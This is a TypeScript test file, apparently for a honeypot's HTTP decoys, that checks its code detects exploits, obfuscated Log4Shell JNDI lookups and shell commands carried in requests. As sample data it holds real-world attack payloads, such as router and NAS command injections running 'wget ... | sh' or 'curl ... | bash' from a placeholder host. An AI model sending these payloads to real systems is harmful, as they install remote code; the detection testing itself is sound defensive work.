/** The files in `decoys/http/`: every exploit is found in the requests that carry it, and in no innocent one. */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { shippedDecoys } from '../../package.ts';
import type { Exchange } from '../http/serve.ts';
import { readApplications } from './application.ts';
import { carriedCommands } from './carried.ts';
import { requestOf } from './fixtures/sample.ts';
import { log4shellOf, matchExploit } from './match.ts';
import { type RequestText, textOf } from './request-text.ts';
import { readHead } from './servers/web-server.ts';

const applications = readApplications(`${shippedDecoys}/http`);

function textOfSample(sample: string): RequestText {
  const { head, body } = requestOf(sample);
  const parsed = readHead(head);
  assert.ok('method' in parsed, `not read: ${sample}`);
  return textOf(parsed as Exchange, body);
}

for (const application of applications)
  describe(application.application, () => {
    for (const exploit of application.exploits) {
      it(`${exploit.name} has a sample`, () => assert.ok(exploit.samples.length > 0));
      for (const [index, { request, command, proof }] of exploit.samples.entries())
        it(`${exploit.name} is found in sample ${index + 1}, with its command`, () => {
          const match = matchExploit(applications, textOfSample(request));
          assert.deepEqual(
            {
              application: match?.application.application,
              name: match?.exploit.name,
              command: match?.command,
              proof: match?.proof,
            },
            { application: application.application, name: exploit.name, command, proof },
          );
          assert.equal(match!.exploit, exploit, 'another entry of the same name comes first');
        });
    }
  });

it('innocent requests match nothing', () => {
  const innocent = [
    'GET / HTTP/1.1',
    'GET /robots.txt HTTP/1.1',
    'GET /favicon.ico HTTP/1.1',
    'GET /sitemap.xml HTTP/1.1',
    'GET /.well-known/security.txt HTTP/1.1',
    'GET /api/v1/users?id=1 HTTP/1.1',
    'GET /api/v1/pods?limit=500 HTTP/1.1',
    'GET /index.php?page=2 HTTP/1.1',
    'GET /search?q=how+to+exec%28%29+a+command HTTP/1.1',
    'GET /shop/shell-necklace.html HTTP/1.1',
    'GET /static/app.9f8a7c.js HTTP/1.1',
    'GET /v2/ HTTP/1.1',
    'GET /login?next=%2Fadmin%2F HTTP/1.1',
    'OPTIONS * HTTP/1.1',
    'HEAD /health HTTP/1.1',
    'POST /login HTTP/1.1\nContent-Type: application/x-www-form-urlencoded\n\nusername=alice&password=s3cret',
    'POST /api/v1/orders HTTP/1.1\nContent-Type: application/json\n\n{"id":1,"items":[{"sku":"a","command":"none"}]}',
    'POST /upload HTTP/1.1\nContent-Type: multipart/form-data; boundary=b\n\n--b\nContent-Disposition: form-data; name="file"; filename="a.txt"\n\nhello\n--b--',
    'POST /graphql HTTP/1.1\nContent-Type: application/json\n\n{"query":"{ me { id } }"}',
    'PUT /files/report.pdf HTTP/1.1\n\n%PDF-1.4',
  ];
  for (const request of innocent) {
    const text = textOfSample(request);
    const match = matchExploit(applications, text);
    assert.equal(match && `${match.application.application} ${match.exploit.name}`, undefined, request);
    assert.deepEqual(log4shellOf(text), []);
  }
});

it('lookups of Log4j are found through their disguises, wherever they stand', () => {
  const found = [
    ['GET /?x=${jndi:ldap://192.0.2.1:1389/a} HTTP/1.1', 'ldap://192.0.2.1:1389/a'],
    ['GET /%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.1%2Fa%7D HTTP/1.1', 'ldap://192.0.2.1/a'],
    [
      'GET / HTTP/1.1\nUser-Agent: ${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://192.0.2.1/b}',
      'ldap://192.0.2.1/b',
    ],
    [
      'GET / HTTP/1.1\nX-Api-Version: ${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://192.0.2.1/c}',
      'rmi://192.0.2.1/c',
    ],
    [
      'GET / HTTP/1.1\nReferer: ${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//192.0.2.1/d}',
      'ldap://192.0.2.1/d',
    ],
    ['POST /login HTTP/1.1\n\nuser=${jndi:dns://192.0.2.1/e}', 'dns://192.0.2.1/e'],
  ] as const;
  for (const [request, address] of found)
    assert.deepEqual(log4shellOf(textOfSample(request)), [address], request);
});

it('what no known application explains is a command where a shell would find one', () => {
  const carrying: readonly (readonly [request: string, commands: readonly string[]])[] = [
    [
      'POST /GponForm/diag_Form?images/ HTTP/1.1\nContent-Type: application/x-www-form-urlencoded\n\nXWebPageName=diag&dest_host=`busybox+wget+http://192.0.2.1/g+-O+/tmp/g`;sh+/tmp/g&ipv=0',
      ['`busybox wget http://192.0.2.1/g -O /tmp/g`;sh /tmp/g'],
    ],
    [
      'GET /cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15&system=Y2QgL3RtcDsgd2dldCBodHRwOi8vMTkyLjAuMi4xL20= HTTP/1.1',
      ['cd /tmp; wget http://192.0.2.1/m'],
    ],
    [
      'GET /cgi-bin/luci/;stok=/locale?form=country&country=$(id%3E%60wget+http%3A%2F%2F192.0.2.1%2Ft+-O-+|sh%60) HTTP/1.1',
      ['$(id>`wget http://192.0.2.1/t -O- |sh`)'],
    ],
    [
      'POST /api/run HTTP/1.1\nContent-Type: application/json\n\n{"job":{"steps":["echo hi","curl -s http://192.0.2.1/x | bash"]}}',
      ['curl -s http://192.0.2.1/x | bash'],
    ],
    [
      'POST /upload HTTP/1.1\nContent-Type: multipart/form-data; boundary=b\n\n--b\nContent-Disposition: form-data; name="a"\n\n;tftp -g -r m 192.0.2.1;\n--b--',
      [';tftp -g -r m 192.0.2.1;'],
    ],
    [
      'POST /soap HTTP/1.1\nContent-Type: text/xml\n\n<?xml version="1.0"?><a><b>NTP</b><c>1;wget http://192.0.2.1/c -O- &amp; sh</c>\n</a>',
      ['1;wget http://192.0.2.1/c -O- & sh'],
    ],
    ['GET /?cmd=1 HTTP/1.1\nCookie: a=;wget http://192.0.2.1/c', ['a=;wget http://192.0.2.1/c']],
    ['GET /shop?next=http://192.0.2.1/curl HTTP/1.1\nUser-Agent: curl/8.5.0 (+http://192.0.2.1/)', []],
    ['GET /search?q=how+to+use+curl+and+sh HTTP/1.1', []],
    ['POST /x HTTP/1.1\nContent-Type: application/json\n\n{"a":[[[{"b":null}]]],"c":1}', []],
  ];
  for (const [request, commands] of carrying)
    assert.deepEqual(carriedCommands(textOfSample(request)), commands, request);
});
